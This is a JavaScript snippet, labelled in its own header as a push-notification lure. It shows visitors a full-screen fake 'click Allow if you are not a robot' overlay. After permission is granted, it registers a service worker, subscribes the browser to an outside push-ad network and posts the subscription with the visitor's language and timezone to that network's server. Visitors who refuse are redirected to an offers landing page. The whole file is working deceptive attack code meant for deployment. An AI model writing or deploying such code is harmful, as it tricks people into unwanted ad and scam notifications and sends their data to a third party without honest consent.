// push-notification-lure: fake "click Allow to prove you are not a robot" overlay that enrols the visitor in a push-ad network
// ES5; registers a service worker, subscribes with the network's VAPID key and reports the subscription
(function () {
  var NETWORK = 'https://pushrelay-ads.top';
  var SITE_ID = '48213';
  var VAPID = 'BNh3Qx8s0Ltk2wV1uGzR7cYdPq9mJ4eXa6oFbK5nHiSjD3yTvW0lC2rM8pUgE1fZ7kA9sQ4dN6hL0xB3tV5yRcM';
  var LANDING_ON_BLOCK = 'https://best-offers-today.xyz/lp/?s=' + SITE_ID;

  if (!('Notification' in window) || !('serviceWorker' in navigator) || !('PushManager' in window)) return;
  if (Notification.permission === 'denied') return;
  if (document.cookie.indexOf('_pn_done=1') !== -1) return;

  function b64ToBytes(b64) {
    var pad = '='.repeat((4 - (b64.length % 4)) % 4);
    var raw = atob((b64 + pad).replace(/-/g, '+').replace(/_/g, '/'));
    var out = new Uint8Array(raw.length);
    for (var i = 0; i < raw.length; i++) out[i] = raw.charCodeAt(i);
    return out;
  }

  function overlay() {
    var d = document.createElement('div');
    d.id = 'pn-verify';
    d.style.cssText = 'position:fixed;inset:0;background:rgba(0,0,0,.86);z-index:2147483647;display:flex;' +
      'align-items:center;justify-content:center;font:16px Arial,sans-serif;color:#fff;text-align:center';
    d.innerHTML = '<div style="max-width:420px">' +
      '<div style="font-size:64px">&#129302;</div>' +
      '<h2 style="margin:12px 0">Click <b>"Allow"</b> if you are not a robot</h2>' +
      '<p style="opacity:.8">Press the Allow button in the box above to confirm and continue to the site.</p>' +
      '<div style="margin-top:20px;font-size:40px">&#8593;</div></div>';
    document.body.appendChild(d);
    return d;
  }

  function report(sub) {
    var body = JSON.stringify({ site: SITE_ID, sub: sub, lang: navigator.language, tz: new Date().getTimezoneOffset() });
    return fetch(NETWORK + '/api/subscribe', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: body });
  }

  function enrol() {
    return navigator.serviceWorker.register('/sw-check.js', { scope: '/' }).then(function (reg) {
      return navigator.serviceWorker.ready.then(function () {
        return reg.pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: b64ToBytes(VAPID) });
      });
    }).then(function (sub) {
      document.cookie = '_pn_done=1;path=/;max-age=' + 60 * 60 * 24 * 365;
      return report(sub.toJSON());
    });
  }

  function start() {
    var cover = overlay();
    Notification.requestPermission().then(function (result) {
      if (result === 'granted') {
        enrol().then(function () { cover.parentNode.removeChild(cover); });
      } else {
        // refused: monetise the visit another way
        window.location.replace(LANDING_ON_BLOCK);
      }
    });
  }

  if (document.readyState === 'complete') start();
  else window.addEventListener('load', start);
})();
